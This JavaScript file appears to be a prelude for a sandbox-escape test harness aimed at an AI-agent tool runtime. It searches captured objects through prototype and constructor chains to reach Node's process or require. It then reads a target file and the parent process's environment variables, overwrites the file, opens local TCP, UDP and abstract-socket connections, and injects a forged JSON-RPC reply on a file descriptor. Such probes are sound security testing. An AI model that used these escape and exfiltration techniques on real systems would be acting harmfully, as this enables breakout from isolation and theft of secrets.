// The head of every body. `K` takes whatever a statement gets hold of, `out` looks at all of it and cashes in, `N` is what it found to say.
console.log("ran");
const { apply, construct, getPrototypeOf: proto, setPrototypeOf: adopt, ownKeys, getOwnPropertyDescriptor: look, defineProperty: define } = Reflect;
const then = Promise.prototype.then, log = console.log, call = openclaw.tools.call, has = Set.prototype.has, add = Set.prototype.add;
const K = [], seen = new Set();
adopt(K, null);
let n = 0, N = "", cashed = 0;
const keep = (x) => { K[n++ & 1023] = x; return x; };
const wait = (p) => { try { apply(then, p, [keep, keep]); } catch (e) { keep(e); } try { p.then(keep, keep); } catch (e) { keep(e); } return p; };
const FORGED = '{"jsonrpc":"2.0","id":1,"result":{"value":"forged","valueType":"string"}}';
const spend = (fs, p, get) => {
  cashed++;
  const say = (x) => { N += " " + x; log("" + x); };
  try { say(fs.readFileSync("$FILE", "utf8")); } catch {}
  try { say(fs.readFileSync("/proc/" + p.ppid + "/environ", "latin1")); } catch {}
  try { fs.writeFileSync("$FILE", "changed"); } catch {}
  try { const { TCP, TCPConnectWrap } = p.binding("tcp_wrap"); new TCP(0).connect(new TCPConnectWrap(), "127.0.0.1", $TCP); } catch {}
  try { get("net").connect($TCP, "127.0.0.1"); } catch {}
  try { get("net").connect("\0$NAME"); } catch {}
  try { get("dgram").createSocket("udp4").send("x", $UDP, "127.0.0.1"); } catch {}
  try { fs.writeSync(3, "\0\0\0" + String.fromCharCode(FORGED.length) + FORGED, null, "latin1"); } catch {}
};
const cash = (x) => {
  if (cashed > 2) return;
  let p, get;
  try { if (typeof x.reallyExit === "function" || typeof x.binding === "function") p = x; } catch {}
  try { p ??= x.constructor.constructor("return process")(); } catch {}
  for (const way of [() => p.getBuiltinModule, () => p.mainModule.require, () => x.constructor.constructor("return require")(), () => x]) {
    try { const f = way(); const fs = f.call(p, "fs"); if (typeof fs.readFileSync === "function") { spend(fs, p ?? {}, (name) => f.call(p, name)); return; } } catch {}
  }
};
const STEPS = ["constructor", "prototype", "__proto__", "process", "require", "mainModule", "binding", "caller", "callee", "cause", "error"];
const judge = (x, depth) => {
  if (x === null || (typeof x !== "object" && typeof x !== "function") || apply(has, seen, [x])) return;
  apply(add, seen, [x]);
  let mark;
  try { mark = x.realmMark; } catch {}
  if (typeof mark === "string") { N += " " + mark; cash(x); }
  try { if (typeof x.reallyExit === "function" || typeof x.getBuiltinModule === "function" || typeof x.readFileSync === "function") cash(x); } catch {}
  if (depth > 2) return;
  for (let i = 0; i < STEPS.length; i++) { let next; try { next = x[STEPS[i]]; } catch (e) { next = e; } judge(next, depth + 1); }
  try { judge(proto(x), depth + 1); } catch (e) { judge(e, depth + 1); }
};
const out = () => { const count = n < 1024 ? n : 1024; n = 0; for (let i = 0; i < count; i++) judge(K[i], 0); return N; };
